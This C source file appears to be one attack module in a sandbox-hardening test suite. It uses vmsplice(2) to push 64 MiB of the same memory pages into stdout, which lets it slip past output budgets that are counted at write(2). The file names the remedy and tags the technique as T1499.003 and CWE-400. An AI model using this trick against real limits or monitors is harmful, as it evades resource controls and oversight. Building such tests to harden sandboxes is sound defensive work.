// SPDX-License-Identifier: MIT
/*
 * vmsplice.c - output that is never written.
 *
 * Goal:  more output than the budget.
 * Means: vmsplice(2) puts pages of the program's memory into the pipe, the same ones again and
 *        again. Who counts at write(2), in a preloaded library, a tracer or a filter, sees none
 *        of it.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <sys/uio.h>
#include <unistd.h>

#define PIECE (64 << 10)
#define BYTES (64 << 20)

static enum claim run(const struct brief *b)
{
	static char lines[PIECE] __attribute__((aligned(4096)));
	size_t done = 0;

	for (int i = 0; i < PIECE; i++)
		lines[i] = i % 64 == 63 ? '\n' : 'x';
	attempting(b);
	while (done < BYTES) {
		struct iovec pages = { .iov_base = lines, .iov_len = PIECE };
		ssize_t n = vmsplice(STDOUT_FILENO, &pages, 1, 0);

		if (n <= 0)
			return denied("vmsplice");
		done += (size_t)n;
	}
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "more output than the budget",
	.means = "vmsplice(2): pages go into the pipe, nothing is written",
	.oracle = "usage:output",
	.attack_id = "T1499.003, CWE-400",
	.remedy = "count where it is read, not where it is written",
	.refs = (const char *const[]){ "vmsplice(2)", NULL },
	.run = run,
};
